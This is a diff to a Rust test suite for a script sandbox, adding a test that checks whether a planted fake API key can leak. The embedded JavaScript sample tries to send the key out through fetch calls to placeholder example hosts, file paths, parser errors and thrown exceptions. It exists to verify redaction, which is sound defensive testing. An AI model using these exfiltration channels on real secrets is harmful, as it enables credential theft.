@@ -95,6 +95,58 @@ async fn secrets_do_not_leave() {
     }
 }
 
+/// Attack: whoever calls chooses how long the text before a key is, and so where the
+/// runtime would cut it. No way out shows more than three characters of the key.
+#[tokio::test]
+async fn no_cut_leaves_a_piece_of_a_secret() {
+    const KEY: &str = "sk-live-4f9a8b7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1";
+    let home = Home::new();
+    home.file("secrets.env", &format!("API_KEY={KEY}\n"));
+    set_private(&home);
+    let world = World::with(home, |_| ());
+    let code = r#"
+        const text = 'x'.repeat(size) + key;
+        const spelt = how === 'json' ? JSON.stringify(JSON.stringify('"' + text)) : how === 'uri' ? encodeURI(text + '%') : text;
+        console.log(spelt);
+        if (where === 'url') await fetch('http://exa mple/' + spelt);
+        if (where === 'scheme') await fetch('ftp://a.example.com/?' + spelt);
+        if (where === 'host') await fetch('http://' + key + '.example.com/');
+        if (where === 'path') safety.fs.readText(spelt);
+        if (where === 'yaml') safety.parser.yaml('!!int ' + spelt);
+        if (where === 'xml') safety.parser.xml('<a>&' + spelt + ';</a>');
+        if (where === 'name') { const e = new Error('x'); e.name = spelt; throw e; }
+        if (where === 'throw') throw new Error(spelt);
+        return spelt;
+    "#;
+    let text = |name: &str| json!({"name": name, "type": "STRING", "required": true, "testValue": "plain"});
+    let more = json!({
+        "params": [text("where"), text("how"), {"name": "size", "type": "INTEGER", "required": true, "testValue": "1"}],
+        "staticVariables": [{"key": "${API_KEY}"}],
+        "sandboxOverrides": {"networkMode": "strict", "fileRead": true},
+    });
+    world.published(&document("leaky", code, more)).await;
+    let mut wheres = vec![
+        "url", "scheme", "host", "path", "yaml", "xml", "name", "throw", "return",
+    ];
+    wheres.sort_unstable();
+    for place in wheres {
+        for how in ["plain", "json", "uri"] {
+            // Around every length at which something is cut, and beyond what is kept.
+            for size in [0, 19, 98, 118, 210, 230, 255, 280, 4_090, 32_740, 32_760] {
+                let arguments = json!({"where": place, "how": how, "size": size});
+                let outcome = world.call("leaky", arguments).await;
+                let entry = serde_json::to_string(&world.entry(&outcome)).unwrap();
+                let shown = outcome.to_json().to_string();
+                for out in [entry, shown] {
+                    let mut pieces = KEY.as_bytes().windows(6).map(String::from_utf8_lossy);
+                    let piece = pieces.find(|piece| out.contains(&**piece));
+                    assert_eq!(piece, None, "{place} {how} {size}: {out}");
+                }
+            }
+        }
+    }
+}
+
 fn set_private(home: &Home) {
     use std::os::unix::fs::PermissionsExt as _;
     let permissions = std::fs::Permissions::from_mode(0o600);
@@ -228,9 +280,13 @@ async fn the_operators_authority_is_believed() {
     for named in [false, true] {
         let home = Home::new();
         home.file("company.pem", catalog_lab::authority_pem());
-        if named {
-            home.file("ringfence.toml", "[network]\nca_file = \"company.pem\"\n");
-        }
+        let ca_file = if named {
+            "ca_file = \"company.pem\""
+        } else {
+            ""
+        };
+        let settings = format!("[network]\nprivate_hosts = [\"localhost\"]\n{ca_file}\n");
+        home.file("ringfence.toml", &settings);
         let world = World::with(home, |_| ());
         world.published(&tool).await;
         let outcome = world.call("ask", json!({"go": true})).await;
